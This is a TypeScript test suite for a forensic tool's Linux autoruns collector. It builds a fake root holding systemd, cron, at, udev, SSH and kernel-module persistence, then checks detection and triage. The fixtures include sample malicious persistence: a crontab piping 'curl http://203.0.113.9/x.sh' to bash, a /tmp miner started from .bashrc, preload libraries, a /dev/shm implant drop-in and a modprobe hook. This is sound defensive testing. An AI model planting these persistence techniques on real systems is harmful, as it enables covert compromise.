// The Linux autoruns step on a real pwsh: a fake root (Root parameter) holding every kind of
// persistence the step reads — systemd units in vendor and admin folders (enabled, never enabled,
// masked, overridden, drop-in, timer, template instance, alias, user unit, dangling link), cron,
// at, init.d, shell start-up files, udev, XDG autostart, SSH forced commands, kernel modules —
// with a small dpkg database, so each enabled state and package status is checked against what
// was built. Then the step on this machine: it completes, and no unit it calls enabled lacks a link.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { createHash, randomBytes } from 'node:crypto';
import { chmodSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, readlinkSync, symlinkSync } from 'node:fs';
import { basename, dirname, join } from 'node:path';
import { loadCatalog } from '../lib/catalog.ts';
import { collect } from '../lib/collect.ts';
import { buildPlan, parseParamArgs } from '../lib/plan.ts';
import { triageFolder } from '../lib/triage/engine.ts';
import { loadRules } from '../lib/triage/rules.ts';
import { pwshOrFail, readJson, readJsonl, teamPlaybook, tempDir, writeTree } from './helpers.ts';

pwshOrFail();

type Rec = Record<string, any>;

// host-info first, as in triage: it tells the rules the host is Linux.
async function runAutoruns(params: string[]): Promise<{ records: Rec[]; step: any; stderr: string; dir: string }> {
  const book = teamPlaybook('t', [{ step: 'host-info' }, { step: 'autoruns' }]);
  const plan = buildPlan(loadCatalog([book]), 't', parseParamArgs(params));
  const [result] = await collect({ plan, targets: ['localhost'], transport: 'local', out: tempDir(), caseId: 'test', concurrency: 1 });
  assert.ok(result.dir, `no evidence folder: ${result.error}`);
  const manifest = readJson(join(result.dir!, 'manifest.json'));
  const step = manifest.steps.find((s: any) => s.id === 'autoruns');
  const stderrFile = join(result.dir!, step.dir, 'stderr.log');
  return { records: readJsonl(join(result.dir!, step.dir, 'records.jsonl')), step, stderr: existsSync(stderrFile) ? readFileSync(stderrFile, 'utf8') : '', dir: result.dir! };
}
const rules = loadRules();
async function autorunFindings(dir: string): Promise<string[]> {
  const { findings } = await triageFolder(dir, { rules });
  return findings.filter((f) => f.kind === 'autorun').map((f) => `${f.rule.id}: ${f.record.category} ${f.record.entry}`).sort();
}

const md5 = (s: string) => createHash('md5').update(s).digest('hex');
const sha256 = (s: string | Buffer) => createHash('sha256').update(s).digest('hex');
const release = readFileSync('/proc/sys/kernel/osrelease', 'utf8').trim();
const keyBlob = randomBytes(51);
const fingerprint = 'SHA256:' + createHash('sha256').update(keyBlob).digest('base64').replace(/=+$/, '');
const DAILY = '#!/bin/sh\n# rotate the logs\n/usr/sbin/logrotate /etc/logrotate.conf\n';
const XD = '#!/bin/sh\necho xd\n';
const unit = (exec: string, install = 'WantedBy=multi-user.target') => `[Unit]\nDescription=test\n\n[Service]\nType=simple\n${exec}\n${install ? `\n[Install]\n${install}\n` : ''}`;

function buildRoot(): string {
  const root = writeTree({
    'etc/passwd': 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\nghost:x:1001:1001::/home/ghost:/bin/sh\n',
    // systemd, system scope
    'usr/lib/systemd/system/x.service': unit('ExecStartPre=/usr/bin/xd --check\nExecStart=/usr/bin/xd --serve'),
    'usr/lib/systemd/system/never.service': unit('ExecStart=/usr/bin/never'),
    'usr/lib/systemd/system/masked.service': unit('ExecStart=/usr/bin/masked'),
    'usr/lib/systemd/system/over.service': unit('ExecStart=/usr/bin/vendor-over'),
    'etc/systemd/system/over.service': unit('ExecStart=/opt/local/over --admin'),
    'usr/lib/systemd/system/drop.service': unit('ExecStart=/usr/bin/drop-vendor'),
    'etc/systemd/system/drop.service.d/override.conf': '[Service]\nExecStart=\nExecStart=/dev/shm/.x/implant --quiet\n',
    'usr/lib/systemd/system/helper.service': unit('User=backup\nExecStart=/usr/local/bin/backup.sh --full', ''),
    'usr/lib/systemd/system/backup.timer': '[Timer]\nOnCalendar=daily\nUnit=helper.service\n\n[Install]\nWantedBy=timers.target\n',
    'usr/lib/systemd/system/getty@.service': unit('ExecStart=-/sbin/agetty -o "-p -- \\\\u" --noclear - $TERM', 'WantedBy=getty.target'),
    'usr/lib/systemd/system/sshx.service': unit('ExecStart=/usr/sbin/sshx -D', 'WantedBy=multi-user.target\nAlias=sshdx.service'),
    'usr/local/lib/systemd/system/local.service': unit('ExecStart=/usr/local/bin/local-agent'),
    // systemd, user scope
    'home/alice/.config/systemd/user/agent.service': unit('ExecStart=/home/alice/.local/bin/agent', 'WantedBy=default.target'),
    'usr/lib/systemd/user/pw.service': unit('ExecStart=/usr/bin/pw', 'WantedBy=default.target'),
    // cron, anacron, at
    'etc/crontab': 'SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n',
    'etc/cron.daily/dailyjob': DAILY,
    'etc/cron.daily/notexec': '#!/bin/sh\ntrue\n',
    'etc/cron.daily/.placeholder': '',
    'var/spool/cron/crontabs/alice': '# DO NOT EDIT\n*/5 * * * * curl -fsSL http://203.0.113.9/x.sh | bash\n',
    'etc/anacrontab': 'SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n',
    'var/spool/cron/atjobs/a0000101b3c4d5':
      "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail alice 0\numask 22\nHOME=/home/alice; export HOME\ncd /home/alice || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER0f1e2d3c'\n/home/alice/.cache/upd --once\nmarcinDELIMITER0f1e2d3c\n",
    // boot scripts
    'etc/init.d/legacy': '#!/bin/sh\n/usr/sbin/legacyd\n',
    'etc/init.d/olddaemon': '#!/bin/sh\n/usr/sbin/olddaemon\n',
    // shell start-up files
    'etc/environment': 'PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"\nLD_PRELOAD=/usr/local/lib/libhide.so\n',
    'usr/local/lib/libhide.so': 'not really a library',
    'etc/profile': 'if [ -d /etc/profile.d ]; then\n  for i in /etc/profile.d/*.sh; do . $i; done\nfi\n',
    'etc/profile.d/tools.sh': 'export EDITOR=vi\n',
    'home/alice/.bashrc': '# ~/.bashrc\nalias ll="ls -l"\n# curl http://commented.out | sh\n(nohup /tmp/.x/miner >/dev/null 2>&1 &)\n',
    'root/.profile': 'mesg n 2> /dev/null || true\n',
    // motd, udev, XDG autostart
    'etc/update-motd.d/10-uname': '#!/bin/sh\nuname -snrvm\n',
    'etc/udev/rules.d/99-usb.rules': 'ACTION=="add", SUBSYSTEM=="usb", RUN+="/usr/local/bin/usb-hook %k"\n# RUN+="/commented/out"\nKERNEL=="sd*", \\\n  PROGRAM="helper %k", RUN{builtin}+="kmod load x"\n',
    'usr/lib/udev/rules.d/99-usb.rules': 'RUN+="/usr/bin/replaced-by-etc"\n',
    'usr/lib/udev/rules.d/50-vendor.rules': 'SUBSYSTEM=="net", IMPORT{program}="/usr/lib/udev/net-id %k"\n',
    'usr/lib/udev/helper': '#!/bin/sh\n',
    'etc/xdg/autostart/updater.desktop': '[Desktop Entry]\nType=Application\nName=Updater\nExec=/opt/updater/bin/updater --tray\n',
    'home/alice/.config/autostart/hidden.desktop': '[Desktop Entry]\nType=Application\nExec=/usr/bin/hidden-thing\nHidden=true\n',
    // SSH
    'root/.ssh/authorized_keys': `command="/usr/local/bin/backup-only --strict",no-pty ssh-ed25519 ${keyBlob.toString('base64')} backup@vault\nssh-rsa ${randomBytes(40).toString('base64')} admin@laptop\n`,
    'usr/local/bin/backup-only': '#!/bin/sh\n',
    'etc/ld.so.preload': '/lib/x86_64-linux-gnu/libsneaky.so\n',
    // kernel modules
    'etc/modules-load.d/evil.conf': '# load at boot\nevilmod\n',
    [`usr/lib/modules/${release}/modules.dep`]: 'kernel/drivers/net/dummy.ko.xz:\nextra/evilmod.ko:\n',
    [`usr/lib/modules/${release}/extra/evilmod.ko`]: 'ELF pretend',
    'etc/modprobe.d/usb.conf': 'install usb-storage /bin/sh -c "/tmp/.k; /sbin/modprobe --ignore-install usb-storage"\n',
    // programs the units and cron run (usr-merged: /bin and /lib are links into /usr)
    'usr/bin/xd': XD,
    'usr/bin/drop-vendor': '#!/bin/sh\n',
    'usr/bin/curl': 'curl',
    'usr/local/bin/backup.sh': '#!/bin/sh\ntar czf /backup/all.tgz /etc\n',
    // a dpkg database: xd verified (registered as /bin/xd), drop-vendor changed since install, the
    // cron.daily script a conffile with the right checksum
    'var/lib/dpkg/status':
      `Package: xd\nStatus: install ok installed\nVersion: 1.0\nArchitecture: all\nMaintainer: t <t@example.org>\nDescription: test\nConffiles:\n /etc/cron.daily/dailyjob ${md5(DAILY)}\n\n`,
    'var/lib/dpkg/info/xd.list': '/.\n/bin\n/bin/xd\n/usr/bin/drop-vendor\n/etc/cron.daily/dailyjob\n',
    'var/lib/dpkg/info/xd.md5sums': `${md5(XD)}  bin/xd\n${md5('the original')}  usr/bin/drop-vendor\n`,
  });
  const link = (path: string, target: string) => {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    symlinkSync(target, join(root, path));
  };
  link('lib', 'usr/lib');
  link('bin', 'usr/bin');
  link('etc/systemd/system/multi-user.target.wants/x.service', '/usr/lib/systemd/system/x.service');
  link('etc/systemd/system/masked.service', '/dev/null');
  link('etc/systemd/system/multi-user.target.wants/masked.service', '/usr/lib/systemd/system/masked.service');
  link('etc/systemd/system/multi-user.target.wants/over.service', '/etc/systemd/system/over.service');
  link('usr/lib/systemd/system/multi-user.target.wants/drop.service', '../drop.service');
  link('etc/systemd/system/timers.target.wants/backup.timer', '/lib/systemd/system/backup.timer');
  link('etc/systemd/system/getty.target.wants/getty@tty1.service', '/lib/systemd/system/getty@.service');
  link('etc/systemd/system/sshdx.service', '/lib/systemd/system/sshx.service');
  link('etc/systemd/system/multi-user.target.wants/gone.service', '/etc/systemd/system/gone.service');
  link('home/alice/.config/systemd/user/default.target.wants/agent.service', '../agent.service');
  link('etc/rc2.d/S01legacy', '../init.d/legacy');
  link('etc/rc0.d/K01olddaemon', '../init.d/olddaemon');
  for (const f of ['etc/cron.daily/dailyjob', 'etc/init.d/legacy', 'etc/init.d/olddaemon', 'etc/update-motd.d/10-uname', 'usr/local/bin/backup.sh', 'usr/bin/xd']) chmodSync(join(root, f), 0o755);
  chmodSync(join(root, 'etc/cron.daily/notexec'), 0o644);
  return root;
}

let fake: { records: Rec[]; step: any; stderr: string; dir: string; root: string };

test.before(async () => {
  const root = buildRoot();
  fake = { ...(await runAutoruns([`autoruns.Root=${root}`, 'autoruns.HashImages=true'])), root };
});

const units = (name: string) => fake.records.filter((r) => (r.category === 'Services' || r.category === 'Timers') && r.entry === name);
const one = (name: string, directive = 'ExecStart') => {
  const rs = units(name).filter((r) => r.directive === directive || (r.directive === null && directive === 'ExecStart'));
  assert.is(rs.length, 1, `${name} ${directive}: ${JSON.stringify(units(name))}`);
  return rs[0];
};

test('the step runs on the fake root with every field of the record shape', () => {
  assert.is(fake.step.status, 'ok', fake.stderr);
  assert.not.match(fake.stderr, /\[error\]|\[terminating\]/, fake.stderr);
  for (const r of fake.records) {
    for (const k of ['location', 'entry', 'category', 'enabled', 'state', 'profile', 'imagePath', 'imageExists', 'launchString', 'time', 'sha256', 'signer', 'signed', 'signatureStatus'])
      assert.ok(k in r, `${k} missing from ${JSON.stringify(r)}`);
    assert.is(r.enabled, r.state === 'enabled' || r.state === 'loaded', `${r.entry}: enabled ${r.enabled} but state ${r.state}`);
    // Nothing outside the fake root leaks in (this host's own units, crontabs, keys).
    if (r.category === 'Services') assert.ok(['x.service', 'never.service', 'masked.service', 'over.service', 'drop.service', 'helper.service', 'getty@tty1.service', 'sshx.service', 'local.service', 'gone.service', 'agent.service', 'pw.service'].includes(r.entry), r.entry);
  }
});

test('systemd: a vendor unit enabled by a link in /etc is enabled; a never-enabled one is disabled; masked beats a wants link', () => {
  const x = one('x.service');
  assert.is(x.enabled, true);
  assert.is(x.state, 'enabled');
  assert.is(x.location, '/usr/lib/systemd/system', 'found once, although /lib is the same folder');
  assert.is(x.enabledBy, 'multi-user.target');
  assert.is(x.launchString, '/usr/bin/xd --serve');
  assert.is(x.imagePath, '/usr/bin/xd');
  assert.is(x.sha256, sha256(XD));
  assert.is(one('x.service', 'ExecStartPre').launchString, '/usr/bin/xd --check');
  const never = one('never.service');
  assert.is(never.enabled, false);
  assert.is(never.state, 'disabled');
  const masked = units('masked.service');
  assert.is(masked.length, 1);
  assert.is(masked[0].state, 'masked');
  assert.is(masked[0].enabled, false);
  assert.is(masked[0].launchString, null);
});

test('systemd: /etc overrides /usr/lib; a drop-in that resets ExecStart replaces the vendor command', () => {
  const over = one('over.service');
  assert.is(over.location, '/etc/systemd/system');
  assert.is(over.launchString, '/opt/local/over --admin');
  assert.is(over.overrides, '/usr/lib/systemd/system/over.service');
  assert.is(over.enabled, true);
  assert.is(units('over.service').length, 1);
  const drop = units('drop.service');
  assert.is(drop.length, 1, 'the vendor ExecStart is gone');
  assert.is(drop[0].launchString, '/dev/shm/.x/implant --quiet');
  assert.is(drop[0].execFile, '/etc/systemd/system/drop.service.d/override.conf');
  assert.is(drop[0].dropIns, '/etc/systemd/system/drop.service.d/override.conf');
  assert.is(drop[0].enabled, true, 'enabled by the vendor wants link under /usr/lib');
  assert.is(drop[0].imagePath, '/dev/shm/.x/implant');
  assert.is(drop[0].imageExists, false);
});

test('systemd: a timer runs its Unit= service (static by itself), with the schedule; template instances and aliases', () => {
  const timer = one('backup.timer');
  assert.is(timer.category, 'Timers');
  assert.is(timer.enabled, true);
  assert.is(timer.unit, 'helper.service');
  assert.is(timer.schedule, 'OnCalendar=daily');
  assert.is(timer.launchString, '/usr/local/bin/backup.sh --full');
  assert.is(timer.profile, 'backup', 'runs as the service\'s User=');
  assert.is(timer.signatureStatus, 'NotPackaged');
  assert.is(timer.signed, null, 'not packaged: no claim either way (signatureStatus says it)');
  const helper = one('helper.service');
  assert.is(helper.state, 'static');
  assert.is(helper.enabled, false);
  const getty = one('getty@tty1.service');
  assert.is(getty.enabled, true);
  assert.is(getty.imagePath, '/sbin/agetty');
  assert.is(units('getty@.service').length, 0, 'the template shows through its instance');
  const sshx = one('sshx.service');
  assert.is(sshx.enabled, true);
  assert.is(sshx.enabledBy, 'alias sshdx.service');
  assert.is(units('sshdx.service').length, 0, 'an alias is not a unit of its own');
  assert.is(one('local.service').state, 'disabled');
  const gone = one('gone.service');
  assert.is(gone.enabled, true);
  assert.match(gone.note, /no folder defines/);
});

test('systemd: user units — a user\'s own enabled unit under their name, vendor user units for every user', () => {
  const agent = one('agent.service');
  assert.is(agent.profile, 'alice');
  assert.is(agent.enabled, true);
  assert.is(agent.enabledBy, 'default.target');
  assert.is(agent.location, '/home/alice/.config/systemd/user');
  const pw = one('pw.service');
  assert.is(pw.profile, 'System-wide');
  assert.is(pw.state, 'disabled');
});

test('cron: crontab, cron.daily scripts (the script is the image, hashed, verified as a conffile), a user crontab, anacron, at', () => {
  const tasks = fake.records.filter((r) => r.category === 'Tasks');
  const runParts = tasks.find((r) => r.location === '/etc/crontab');
  assert.ok(runParts);
  assert.is(runParts!.profile, 'root');
  assert.is(runParts!.launchString, 'cd / && run-parts --report /etc/cron.hourly');
  const daily = tasks.find((r) => r.entry === 'dailyjob');
  assert.ok(daily, 'the cron.daily script');
  assert.is(daily!.location, '/etc/cron.daily');
  assert.is(daily!.imagePath, '/etc/cron.daily/dailyjob');
  assert.is(daily!.imageExists, true);
  assert.is(daily!.sha256, sha256(DAILY));
  assert.is(daily!.enabled, true);
  assert.is(daily!.signatureStatus, 'PackageVerified');
  assert.is(daily!.signer, 'xd');
  assert.is(daily!.signed, true);
  const notexec = tasks.find((r) => r.entry === 'notexec');
  assert.is(notexec!.enabled, false);
  assert.match(notexec!.note, /not executable/);
  assert.not.ok(tasks.some((r) => r.entry === '.placeholder'));
  const alice = tasks.find((r) => r.location === '/var/spool/cron/crontabs/alice');
  assert.ok(alice);
  assert.is(alice!.profile, 'alice');
  assert.is(alice!.entry, '*/5 * * * *');
  assert.is(alice!.imagePath, '/usr/bin/curl', 'a bare name found through cron\'s PATH');
  const ana = tasks.find((r) => r.location === '/etc/anacrontab');
  assert.is(ana!.entry, 'cron.daily');
  assert.is(ana!.launchString, 'run-parts --report /etc/cron.daily');
  const at = tasks.find((r) => r.location === '/var/spool/cron/atjobs');
  assert.ok(at, 'the at job');
  assert.is(at!.imagePath, '/var/spool/cron/atjobs/a0000101b3c4d5');
  assert.is(at!.launchString, '/home/alice/.cache/upd --once');
  assert.is(at!.profile, 'alice');
  assert.is(at!.runAt, new Date(0x01b3c4d5 * 60_000).toISOString());
});

test('boot scripts, shell start-up files, LD_PRELOAD, ld.so.preload, motd', () => {
  const legacy = fake.records.find((r) => r.location === '/etc/init.d' && r.entry === 'legacy');
  assert.is(legacy!.enabled, true);
  assert.is(legacy!.enabledBy, '/etc/rc2.d/S01legacy');
  const old = fake.records.find((r) => r.location === '/etc/init.d' && r.entry === 'olddaemon');
  assert.is(old!.enabled, false, 'only a K link');
  const preload = fake.records.filter((r) => r.category === 'Preload');
  assert.equal(preload.map((r) => `${r.location} ${r.imagePath}`).sort(), ['/etc/environment /usr/local/lib/libhide.so', '/etc/ld.so.preload /lib/x86_64-linux-gnu/libsneaky.so']);
  const env = preload.find((r) => r.location === '/etc/environment')!;
  assert.is(env.imageExists, true);
  assert.is(env.signatureStatus, 'NotPackaged');
  const logon = fake.records.filter((r) => r.category === 'Logon');
  const bashrc = logon.find((r) => r.imagePath === '/home/alice/.bashrc');
  assert.ok(bashrc);
  assert.is(bashrc!.profile, 'alice');
  assert.is(bashrc!.launchString, '/home/alice/.bashrc: (nohup /tmp/.x/miner >/dev/null 2>&1 &)', 'the one line worth reading; not the comment, not the alias');
  assert.is(logon.find((r) => r.imagePath === '/root/.profile')!.launchString, '/root/.profile');
  assert.is(logon.find((r) => r.imagePath === '/etc/profile.d/tools.sh')!.profile, 'System-wide');
  assert.ok(logon.find((r) => r.imagePath === '/etc/environment'));
  assert.ok(logon.find((r) => r.imagePath === '/etc/profile'));
  const motd = fake.records.find((r) => r.category === 'Motd');
  assert.is(motd!.imagePath, '/etc/update-motd.d/10-uname');
  assert.is(motd!.enabled, true);
});

test('udev rules that run programs, XDG autostart, SSH forced command and fingerprint', () => {
  const udev = fake.records.filter((r) => r.category === 'Udev');
  assert.equal(udev.map((r) => `${r.entry} ${r.directive} ${r.imagePath}`).sort(), [
    '50-vendor.rules:1 IMPORT{program} /usr/lib/udev/net-id',
    '99-usb.rules:1 RUN /usr/local/bin/usb-hook',
    '99-usb.rules:3 PROGRAM /usr/lib/udev/helper',
  ]);
  assert.is(udev.find((r) => r.directive === 'RUN')!.launchString, '/usr/local/bin/usb-hook %k');
  const xdg = fake.records.filter((r) => r.category === 'Autostart');
  const updater = xdg.find((r) => r.entry === 'updater.desktop')!;
  assert.is(updater.imagePath, '/opt/updater/bin/updater');
  assert.is(updater.launchString, '/opt/updater/bin/updater --tray');
  assert.is(updater.enabled, true);
  const hidden = xdg.find((r) => r.entry === 'hidden.desktop')!;
  assert.is(hidden.enabled, false);
  assert.is(hidden.profile, 'alice');
  const keys = fake.records.filter((r) => r.category === 'SSH');
  assert.is(keys.length, 2);
  const forced = keys.find((r) => r.entry === 'backup@vault')!;
  assert.is(forced.launchString, '/usr/local/bin/backup-only --strict');
  assert.is(forced.imagePath, '/usr/local/bin/backup-only');
  assert.is(forced.imageExists, true);
  assert.is(forced.fingerprint, fingerprint);
  assert.is(forced.keyOptions, 'command="/usr/local/bin/backup-only --strict",no-pty');
  assert.is(forced.profile, 'root');
  const plain = keys.find((r) => r.entry === 'admin@laptop')!;
  assert.is(plain.imagePath, null);
  assert.match(plain.launchString, /^ssh-rsa /);
});

test('kernel modules: listed to load at boot (file found through modules.dep, not packaged) and modprobe install commands', () => {
  const mods = fake.records.filter((r) => r.category === 'Kernel Modules');
  const evil = mods.find((r) => r.entry === 'evilmod')!;
  assert.ok(evil, JSON.stringify(mods));
  assert.is(evil.location, '/etc/modules-load.d/evil.conf');
  assert.is(evil.imagePath, `/lib/modules/${release}/extra/evilmod.ko`);
  assert.is(evil.imageExists, true);
  assert.is(evil.signatureStatus, 'NotPackaged');
  const install = mods.find((r) => r.entry === 'install usb-storage')!;
  assert.is(install.imagePath, '/bin/sh');
  assert.match(install.launchString, /\/tmp\/\.k/);
});

test('package checks: merged-/usr spelling, a changed packaged file, each path hashed once', () => {
  const drop = fake.records.filter((r) => r.imagePath === '/usr/bin/xd');
  assert.ok(drop.length >= 2);
  for (const r of drop) {
    assert.is(r.signatureStatus, 'PackageVerified', 'registered as /bin/xd');
    assert.is(r.signer, 'xd');
    assert.is(r.signed, true);
  }
  // drop-vendor is no longer run (the drop-in replaced it): no record names it.
  assert.not.ok(fake.records.some((r) => r.imagePath === '/usr/bin/drop-vendor'));
  const hashes = new Map<string, Set<string>>();
  for (const r of fake.records) if (r.imagePath && r.sha256) hashes.set(r.imagePath, (hashes.get(r.imagePath) ?? new Set()).add(r.sha256));
  for (const [p, set] of hashes) assert.is(set.size, 1, p);
  // The unit files themselves are checked too.
  assert.is(one('x.service').fileSignatureStatus, 'NotPackaged');
});

test('triage on the fake root: the implants are flagged; unpackaged but ordinary entries are not', async () => {
  const found = await autorunFindings(fake.dir);
  assert.equal(found.filter((f) => f.startsWith('magpie-linux-autorun-suspicious:')), [
    // The modprobe hook and the start-up file that run from /tmp, both preloads, the drop-in
    // that runs a program from /dev/shm, the download piped to a shell.
    'magpie-linux-autorun-suspicious: Kernel Modules install usb-storage',
    'magpie-linux-autorun-suspicious: Logon .bashrc',
    'magpie-linux-autorun-suspicious: Preload /lib/x86_64-linux-gnu/libsneaky.so',
    'magpie-linux-autorun-suspicious: Preload /usr/local/lib/libhide.so',
    'magpie-linux-autorun-suspicious: Services drop.service',
    'magpie-linux-autorun-suspicious: Tasks */5 * * * *',
  ]);
  // Unpackaged is not unsigned: the rules written for Windows autostarts say nothing here.
  assert.equal(found.filter((f) => !f.startsWith('magpie-linux-')), []);
});

test('a packaged image changed since install is PackageModified, not signed', async () => {
  const root = buildRoot();
  writeTree({ 'etc/systemd/system/drop.service.d/override.conf': '[Service]\nExecStartPost=/usr/bin/drop-vendor\n' }, root);
  const { records, step } = await runAutoruns([`autoruns.Root=${root}`]);
  assert.is(step.status, 'ok');
  const post = records.find((r) => r.entry === 'drop.service' && r.directive === 'ExecStartPost')!;
  assert.is(post.signatureStatus, 'PackageModified');
  assert.is(post.signer, 'xd');
  assert.is(post.signed, false);
  assert.is(post.sha256, sha256('#!/bin/sh\n'));
  assert.ok(records.find((r) => r.entry === 'drop.service' && r.directive === 'ExecStart' && r.imagePath === '/usr/bin/drop-vendor'), 'without a reset, the vendor ExecStart stays');
});

// What this machine's systemd would say: names linked from *.wants/ or *.requires/ in any unit
// folder, or aliases in /etc/systemd/system (the user scope's folders likewise).
function linkedUnits(): Set<string> {
  const names = new Set<string>();
  const folders = ['/etc/systemd/system', '/run/systemd/system', '/usr/local/lib/systemd/system', '/usr/lib/systemd/system', '/lib/systemd/system', '/etc/systemd/user', '/run/systemd/user', '/usr/lib/systemd/user', '/lib/systemd/user'];
  for (const line of readFileSync('/etc/passwd', 'utf8').split('\n')) {
    const home = line.split(':')[5];
    if (home && existsSync(join(home, '.config/systemd/user'))) folders.push(join(home, '.config/systemd/user'));
  }
  for (const dir of folders) {
    if (!existsSync(dir)) continue;
    for (const e of readdirSync(dir)) {
      const p = join(dir, e);
      if (/\.(wants|requires)$/.test(e)) for (const l of readdirSync(p)) names.add(l);
      else if ((dir === '/etc/systemd/system' || dir.endsWith('/.config/systemd/user') || dir === '/etc/systemd/user') && lstatSync(p).isSymbolicLink()) {
        const target = basename(readlinkSync(p));
        if (target !== e && target !== 'null') names.add(target);
      }
    }
  }
  return names;
}

test('this machine (Root /): completes, emits records, no unit enabled without a wants/requires or alias link, masked never enabled', async () => {
  const t0 = Date.now();
  const { records, step, stderr, dir } = await runAutoruns([]);
  assert.is(step.status, 'ok', stderr);
  assert.not.match(stderr, /\[error\]|\[terminating\]/, stderr);
  assert.ok(records.length > 0);
  // Rules written for Windows autostarts stay quiet on a clean Linux host's entries.
  assert.equal((await autorunFindings(dir)).filter((f) => !f.startsWith('magpie-linux-')), []);
  const linked = linkedUnits();
  for (const r of records.filter((x) => x.category === 'Services' || x.category === 'Timers')) {
    if (r.state === 'masked') assert.is(r.enabled, false, r.entry);
    if (!r.enabled) continue;
    const template = String(r.entry).replace(/@[^@.]+\./, '@.');
    assert.ok(linked.has(r.entry) || linked.has(template), `${r.entry} is called enabled but nothing links it`);
  }
  console.log(`  this machine: ${records.length} records in ${step.durationMs} ms (${Date.now() - t0} ms with the runner)`);
});

test.run();
